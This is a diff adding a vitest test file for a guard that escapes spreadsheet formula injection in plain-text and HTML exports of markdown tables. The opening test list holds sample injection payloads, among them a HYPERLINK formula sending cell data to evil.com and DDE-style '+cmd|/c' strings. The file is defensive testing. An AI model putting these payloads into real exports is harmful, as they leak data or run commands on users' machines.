@@ -1,0 +1,64 @@
+import { describe, expect, it } from 'vitest';
+import { parseDocument } from '../../../lib/markdown/parse-document.ts';
+import { formulaGuard } from '../../../lib/output/formula-guard.ts';
+import { documentToHtml } from '../../../lib/output/to-html.ts';
+import { documentToPlain } from '../../../lib/output/to-plain.ts';
+
+describe('formulaGuard', () => {
+  it.each([
+    '=HYPERLINK("https://evil.com/"&A1;"a")',
+    '+cmd|/c!A0',
+    '-2+3+cmd|/c!A0',
+    '@SUM(1+1)',
+    '＝SUM(1)',
+    '=1',
+    ' =1',
+    '"=1+1"',
+    '" +cmd|/c!A0"',
+  ])('has an apostrophe for %s', (words) => {
+    expect(formulaGuard(words)).toBe("'");
+  });
+
+  it.each(['', 'a=b', '-', '–', '-5', '+49 89 12', '-1,234.5 %', '@Ann Lee', '@', "'=1", '1-2'])(
+    'has none for %j',
+    (words) => {
+      expect(formulaGuard(words)).toBe('');
+    },
+  );
+
+  it('takes linear time', () => {
+    for (const words of ['"'.repeat(1_000_000), `@${'a '.repeat(500_000)}!`, `-${'1'.repeat(1_000_000)}x`]) {
+      expect(formulaGuard(words)).toBe(words.startsWith('"') ? '' : "'");
+    }
+  });
+});
+
+describe('a table', () => {
+  const table = '| =A1 | **@SUM(1)** |\n|---|---|\n| `=1` | -5 |\n| a | =b |\n| [=c](https://a.com) | `"=d"` |';
+  const { blocks } = parseDocument(table);
+
+  it('is no formula in plain text', () => {
+    expect(documentToPlain(blocks)).toBe(`'=A1\t'@SUM(1)\n'=1\t-5\na\t'=b\n'=c (https://a.com/)\t'"=d"`);
+  });
+
+  it('is no formula in HTML', () => {
+    const cells = [...documentToHtml(blocks).matchAll(/<t[hd]>(.*?)<\/t[hd]>/g)].map(([, cell]) => cell);
+    expect(cells).toEqual([
+      '&#39;=A1',
+      '&#39;<strong>@SUM(1)</strong>',
+      '&#39;<code>=1</code>',
+      '-5',
+      'a',
+      '&#39;=b',
+      '&#39;<a href="https://a.com/">=c</a>',
+      '&#39;<code>&quot;=d&quot;</code>',
+    ]);
+  });
+
+  it('has no cell more for a tab in one', () => {
+    expect(documentToPlain(parseDocument('| a | b |\n|---|---|\n| `c\t=d` | e |').blocks)).toBe('a\tb\nc =d\te');
+    expect(documentToPlain(parseDocument('<table><tr><td>a<td><code>b\t=c</code><tr><td>d<td>e</table>').blocks)).toBe(
+      'a\tb =c\nd\te',
+    );
+  });
+});
